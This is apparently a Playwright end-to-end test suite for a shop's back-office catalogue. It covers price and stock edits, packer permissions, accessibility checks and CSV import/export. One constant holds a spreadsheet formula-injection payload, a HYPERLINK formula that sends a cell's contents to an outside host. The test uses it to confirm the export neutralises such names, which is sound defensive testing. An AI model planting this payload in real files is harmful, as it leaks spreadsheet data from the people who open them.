/**
 * The back office's catalogue in Chromium: a manager changes a price and a stock level in place
 * and the shop's product page shows both within a second, and is told a price over the maximum is
 * too large; a packer cannot change a price (403)
 * and is told the products page is not for their role; the products, slots, promo codes and
 * customers pages pass axe at a phone's and a desktop's width (screenshots in test-results); a
 * manager imports a CSV with a hostile name and a bad row, sees how many rows were imported and
 * refused, the summary and the refused row, the stock box's hint follows the box, stock is not
 * taken from the file unasked, and the export keeps the name from running as a formula.
 */
import AxeBuilder from '@axe-core/playwright';
import { expect, type Page, test } from '@playwright/test';
import { msUntilProductPageShows, staffSignInByApi } from './back-office-helpers.ts';
import { hydrated, originHeader } from './checkout-helpers.ts';

const MANAGER = '+919447000102';
const PACKER = '+919447000103';

/** Signs a staff member in through the API; the staff cookies land in the page's context. */
async function signInStaff(page: Page, mobile: string): Promise<void> {
  await page.goto('/admin/login');
  await staffSignInByApi(page, mobile, originHeader(page));
}

const HOSTILE = '-1+HYPERLINK("http://x?d="&A2,"x")';

/** A CSV cell as RFC 4180 writes it. */
const csvCell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

async function serious(page: Page): Promise<string[]> {
  const { violations } = await new AxeBuilder({ page }).analyze();
  return violations
    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
    .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
}

test('a manager changes a price and a stock level; the product page shows both within a second', async ({ page }) => {
  test.setTimeout(90_000);
  await signInStaff(page, MANAGER);
  const listed = await page.request.get('/api/admin/products?q=tomato');
  const product = (
    (await listed.json()).data.products as { id: number; name: string; isActive: boolean; stock: number }[]
  ).find((p) => p.isActive && p.stock > 0)!;
  const { id, name } = product;
  await page.goto('/admin/products');
  await hydrated(page, 'AdminProducts');
  await page.getByLabel('Search products').fill('tomato');
  await page.getByRole('button', { name: 'Search', exact: true }).click();
  const row = page.getByRole('form', { name, exact: true });
  await expect(row).toBeVisible();
  // The product page is in the shop's cache before the change.
  const shop = await page.context().newPage();
  await shop.goto(`/product/${id}`);
  await expect(shop.getByText('In stock', { exact: true })).toBeVisible();

  const mrp = Number(await row.getByLabel(`MRP of ${name} in rupees`, { exact: true }).inputValue());
  // Whole rupees, typed as staff often do: saved, the box shows them with two decimals.
  const price = String(Math.floor(mrp) - 1);
  const priceBox = row.getByLabel(`Price of ${name} in rupees`, { exact: true });
  await priceBox.fill(price);
  await row.getByLabel(`Stock of ${name}`, { exact: true }).fill('0');
  await row.getByRole('button', { name: `Save ${name}`, exact: true }).click();
  await expect(row.getByRole('status')).toContainText('Saved');
  await expect(priceBox).toHaveValue(`${price}.00`);
  const savedAt = Date.now();

  const shown = `₹${Number(price).toLocaleString('en-IN', { minimumFractionDigits: 2, maximumFractionDigits: 2 })}`;
  const ms = await msUntilProductPageShows(shop.request, id, [shown, 'Out of Stock'], savedAt, 5_000);
  expect(ms, 'milliseconds from Saved to a product page with the new price and stock').toBeLessThan(1_000);
  await shop.goto(`/product/${id}`);
  await expect(shop.getByText(shown).first()).toBeVisible();
  await expect(shop.getByText('Out of Stock', { exact: true }).first()).toBeVisible();
});

test('a price over the maximum typed in a row is refused as too large, naming the maximum', async ({ page }) => {
  await signInStaff(page, MANAGER);
  const listed = await page.request.get('/api/admin/products?q=tomato');
  const { name } = (await listed.json()).data.products[0] as { name: string };
  await page.goto('/admin/products');
  await hydrated(page, 'AdminProducts');
  await page.getByLabel('Search products').fill('tomato');
  await page.getByRole('button', { name: 'Search', exact: true }).click();
  const row = page.getByRole('form', { name, exact: true });
  await row.getByLabel(`Price of ${name} in rupees`, { exact: true }).fill('999999999');
  await row.getByRole('button', { name: `Save ${name}`, exact: true }).click();
  await expect(row.getByRole('status')).toHaveText('The price can be at most ₹10,00,000.');
});

test('a SKU that does not exist lists no products; the count is the number of matches', async ({ page }) => {
  await signInStaff(page, MANAGER);
  await page.goto('/admin/products');
  await hydrated(page, 'AdminProducts');
  const search = page.getByRole('form', { name: 'Find products' });
  await search.getByLabel('Search products').fill('FF-FRU-0011');
  await search.getByRole('button', { name: 'Search', exact: true }).click();
  await expect(page.getByText('No products found for "FF-FRU-0011".')).toBeVisible();
  await expect(page.getByRole('button', { name: /^Save / })).toHaveCount(0);

  await search.getByLabel('Search products').fill('FF-FRU-01');
  await search.getByRole('button', { name: 'Search', exact: true }).click();
  await expect(page.getByText('10 products match "FF-FRU-01"')).toBeVisible();
  await expect(page.getByRole('button', { name: /^Save / })).toHaveCount(10);
});

test('a packer cannot change a price (403) and is told the products page is not for them', async ({ page }) => {
  await signInStaff(page, PACKER);
  const res = await page.request.fetch('/api/admin/products/1', {
    method: 'PATCH',
    data: { price_paise: 100 },
    headers: originHeader(page),
  });
  expect(res.status()).toBe(403);
  const opened = await page.goto('/admin/products');
  expect(opened?.status()).toBe(403);
  await expect(page.getByRole('heading', { name: 'Not for your role' })).toBeVisible();
  await expect(page.getByRole('navigation').getByRole('link', { name: 'Products' })).toHaveCount(0);
});

for (const viewport of [
  { width: 375, height: 812 },
  { width: 1280, height: 900 },
]) {
  test(`products, slots, promo codes and customers pass axe (${viewport.width}px)`, async ({ page }) => {
    test.setTimeout(120_000);
    await page.setViewportSize(viewport);
    await signInStaff(page, MANAGER);
    const pages = [
      { path: '/admin/products', island: 'AdminProducts', ready: () => page.getByText(/\d+ products/) },
      { path: '/admin/products/1', island: 'AdminProductForm', ready: () => page.getByLabel('Name') },
      { path: '/admin/slots', island: 'AdminSlots', ready: () => page.getByRole('table').first() },
      { path: '/admin/promos', island: 'AdminPromos', ready: () => page.getByRole('table') },
      { path: '/admin/customers', island: 'AdminCustomers', ready: () => page.getByLabel('Mobile number or name') },
    ];
    for (const p of pages) {
      await page.goto(p.path);
      await hydrated(page, p.island);
      await expect(p.ready().first()).toBeVisible();
      if (p.path === '/admin/customers') {
        await page.getByLabel('Mobile number or name').fill('9447000001');
        await page.getByRole('button', { name: 'Find' }).click();
        await page.getByRole('button', { name: /\+91 94470 00001/ }).click();
        await expect(page.getByRole('heading', { name: 'Adjust credit' })).toBeVisible();
      }
      // Nothing wider than the screen but the tables that scroll inside their own box.
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect(overflow, p.path).toBeLessThanOrEqual(0);
      await page.screenshot({
        path: test.info().outputPath(`${p.path.replaceAll('/', '_')}-${viewport.width}.png`),
        fullPage: true,
      });
      expect(await serious(page), p.path).toEqual([]);
    }
  });
}

for (const viewport of [
  { width: 360, height: 800 },
  { width: 1280, height: 900 },
]) {
  test(`a manager imports a CSV and reads its summary; the export keeps formulas out (${viewport.width}px)`, async ({
    page,
  }) => {
    test.setTimeout(90_000);
    await page.setViewportSize(viewport);
    await signInStaff(page, MANAGER);
    const sku = `E2E-CSV-${viewport.width}`;
    const exportedFile = await (await page.request.get('/api/admin/products/export')).text();
    // The export begins with a UTF-8 byte-order mark (for Excel on Windows); the import takes it too.
    expect(exportedFile.startsWith('\uFEFF')).toBe(true);
    const header = exportedFile.slice(1).split('\r\n')[0]!;
    const row = (cells: Record<string, string>) =>
      header
        .split(',')
        .map((column) => csvCell(cells[column] ?? ''))
        .join(',');
    const place = { category: 'E2E imports', sub_category: 'Hostile names', market_price: '12.00', stock: '5' };
    const file = [
      header,
      row({ ...place, sku, product: HOSTILE, sale_price: '10.00' }),
      row({ ...place, sku: `${sku}-BAD`, product: 'Too dear', sale_price: '20.00' }),
    ].join('\r\n');

    await page.goto('/admin/products');
    await hydrated(page, 'AdminProducts');
    await page
      .getByLabel('CSV file')
      .setInputFiles({ name: 'products.csv', mimeType: 'text/csv', buffer: Buffer.from(file) });
    // The box's hint says what the box as it stands does.
    const updateStock = page.getByRole('checkbox', { name: 'Update stock from the file' });
    await expect(updateStock).not.toBeChecked();
    await expect(updateStock).toHaveAccessibleDescription(/^Off: the file's stock column is ignored/);
    await updateStock.check();
    await expect(updateStock).toHaveAccessibleDescription(/^On: each row's stock cell sets its product's stock/);
    await updateStock.uncheck();
    await expect(updateStock).toHaveAccessibleDescription(/^Off: /);
    await page.getByRole('button', { name: 'Import', exact: true }).click();
    await expect(page.getByText('Imported 1 of 2 rows; 1 refused (listed below)')).toBeVisible();
    const summary = page.getByRole('status').filter({ hasText: 'created' });
    await expect(summary).toContainText('1 created, 0 updated, 0 unchanged, 1 refused.');
    await expect(summary).toContainText('Stock was left as it was.');
    await expect(page.getByRole('cell', { name: 'sale_price 20.00 is above market_price 12.00' })).toBeVisible();
    // The refused row is named by its row as a spreadsheet shows the file (the header is row 1),
    // SKU and name, and the table wraps its text rather than scrolling sideways on a phone.
    const refused = page.getByRole('region', { name: 'Refused rows' });
    const refusedRow = refused.getByRole('row').filter({ hasText: `${sku}-BAD` });
    await expect(refusedRow.getByRole('cell').first()).toHaveText('3');
    await expect(refusedRow).toContainText('Too dear');
    expect(await refused.evaluate((el) => el.scrollWidth - el.clientWidth)).toBeLessThanOrEqual(0);
    // The box says to keep the number columns as text in a spreadsheet.
    await expect(page.getByText(/Format the fssai_licence, hsn_code and sku columns as text/)).toBeVisible();

    // The new product has the shop's starting stock, not the file's 5.
    const listed = await page.request.get(`/api/admin/products?q=${sku}&filter=all`);
    const imported = ((await listed.json()).data.products as { sku: string; name: string; stock: number }[]).find(
      (p) => p.sku === sku,
    );
    expect(imported).toMatchObject({ name: HOSTILE, stock: 100 });
    // The export writes the name with a leading apostrophe: a spreadsheet shows it as text.
    const exported = await (await page.request.get('/api/admin/products/export')).text();
    expect(exported).toContain(`${sku},,${csvCell(`'${HOSTILE}`)},`);

    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    await page
      .getByRole('region', { name: 'Import a CSV' })
      .screenshot({ path: test.info().outputPath(`admin-products-import-${viewport.width}.png`) });
    expect(await serious(page)).toEqual([]);
  });
}
